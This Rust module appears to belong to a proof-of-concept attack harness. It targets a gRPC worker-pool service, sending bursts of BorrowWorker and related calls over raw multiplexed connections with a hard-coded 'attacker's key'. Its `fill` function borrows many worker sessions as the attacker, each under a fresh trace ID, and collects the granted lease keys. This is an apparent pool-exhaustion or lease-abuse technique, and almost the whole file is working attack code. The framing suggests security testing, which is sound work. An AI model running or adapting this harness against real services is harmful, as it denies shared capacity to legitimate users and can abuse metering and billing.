//! Many whole calls on few raw connections, faster than a client library makes them.

use std::ops::Range;

use anyhow::ensure;
use bytes::Bytes;
use prost::Message as _;
use tokio::task::JoinSet;
use wire::framing::frame as message;
use wire::worker::BorrowWorkerResponse;
use wire::worker::borrow_worker_response::BorrowStatus;

use crate::calls::{ATTACKER_KEY, borrow_request};
use crate::connection::{Connection, Link, Reads};
use crate::frames::Block;

/// Calls that are written at once.
const BATCH: usize = 64;

/// The path of a borrow.
pub(crate) const BORROW: &str = "/sf.worker.v1.WorkerPool/BorrowWorker";

/// The path of a return.
pub(crate) const RETURN: &str = "/sf.worker.v1.WorkerPool/ReturnWorker";

/// The path of a request for the state of a pool.
pub(crate) const STATE: &str = "/sf.worker.v1.WorkerPool/WorkersState";

/// The path of a report of usage.
pub(crate) const REPORT: &str = "/sf.gateway.payment.v1.UsageService/Report";

/// The path of a stream of session control.
pub(crate) const ATTACH: &str = "/tgm.session.v1.SessionControl/Attach";

/// A call with the attacker's key.
pub(crate) fn keyed(path: &str) -> Block {
    Block::call(path).with("x-api-key", ATTACKER_KEY)
}

/// The result of many calls.
#[derive(Debug, Default)]
pub(crate) struct Done {
    /// Answered with a message.
    pub(crate) answered: u64,
    /// Answered without a message, or not at all.
    pub(crate) refused: u64,
    /// The messages, where they were kept.
    pub(crate) answers: Vec<Vec<u8>>,
}

/// Makes the calls of `numbers` on one connection, at most `most` in flight.
///
/// # Errors
///
/// The connection broke before all were answered.
pub(crate) async fn run(
    connection: &mut Connection,
    numbers: Range<u64>,
    most: u64,
    call: impl Fn(u64) -> (Block, Bytes),
) -> anyhow::Result<Done> {
    let most = most.min(connection.max_streams().into());
    let (mut begun, all) = (0, numbers.end - numbers.start);
    let before = (connection.ended(), connection.refused());
    let mut done = Done::default();
    let mut bytes = Vec::new();
    // The next call, if it waits for the window.
    let mut next = None;
    loop {
        done.answers.append(&mut connection.answers());
        let ended = connection.ended() - before.0;
        if ended == all {
            break;
        }
        bytes.clear();
        let mut batch = 0;
        while begun < all && begun - ended < most && batch < BATCH {
            let (block, body) = next.take().unwrap_or_else(|| call(numbers.start + begun));
            if !connection.has_window(body.len()) {
                next = Some((block, body));
                break;
            }
            connection.call(&mut bytes, &block, &body);
            begun += 1;
            batch += 1;
        }
        if batch > 0 {
            connection.send(&bytes).await?;
        } else {
            connection
                .until_ended(ended + before.0, next.as_ref().map(|(_, body)| body.len()))
                .await?;
        }
    }
    done.refused = connection.refused() - before.1;
    done.answered = all - done.refused;
    Ok(done)
}

/// Makes the calls of `0..calls` on `connections` connections.
///
/// # Errors
///
/// A connection broke.
pub(crate) async fn spread(
    link: &Link,
    reads: Reads,
    connections: u64,
    calls: u64,
    most: u64,
    call: impl Fn(u64) -> (Block, Bytes) + Clone + Send + 'static,
) -> anyhow::Result<Done> {
    let mut parts = JoinSet::new();
    for part in 0..connections {
        let (link, call) = (link.clone(), call.clone());
        let numbers = calls * part / connections..calls * (part + 1) / connections;
        parts.spawn(async move {
            let mut connection = Connection::open(&link, reads).await?;
            run(&mut connection, numbers, most, call).await
        });
    }
    let mut sum = Done::default();
    while let Some(part) = parts.join_next().await {
        let mut part = part??;
        sum.answered += part.answered;
        sum.refused += part.refused;
        sum.answers.append(&mut part.answers);
    }
    Ok(sum)
}

/// Borrows `leases` sessions of `service` as the attacker, each with its own trace, and returns
/// their keys.
///
/// # Errors
///
/// Not all of them were granted.
pub(crate) async fn fill(
    link: &Link,
    service: &'static str,
    organization: &'static str,
    leases: u64,
) -> anyhow::Result<Vec<String>> {
    let block = keyed(BORROW);
    let done = spread(link, Reads::Answers, 8, leases, 512, move |number| {
        let trace = format!("{number:032x}");
        (block.clone(), message(&borrow_request(service, organization, &trace)))
    });
    let done = done.await?;
    let granted = granted(&done.answers);
    let refused = done.refused;
    ensure!(
        granted.len() as u64 == leases,
        "{} of {leases} leases were granted, {refused} calls failed",
        granted.len()
    );
    Ok(granted)
}

/// The keys of the leases that `answers` to borrows granted.
pub(crate) fn granted(answers: &[Vec<u8>]) -> Vec<String> {
    let granted = answers.iter().filter_map(|answer| {
        let answer = BorrowWorkerResponse::decode(&**answer).ok()?;
        (answer.status() == BorrowStatus::Borrowed).then_some(answer.worker_key)
    });
    granted.collect()
}
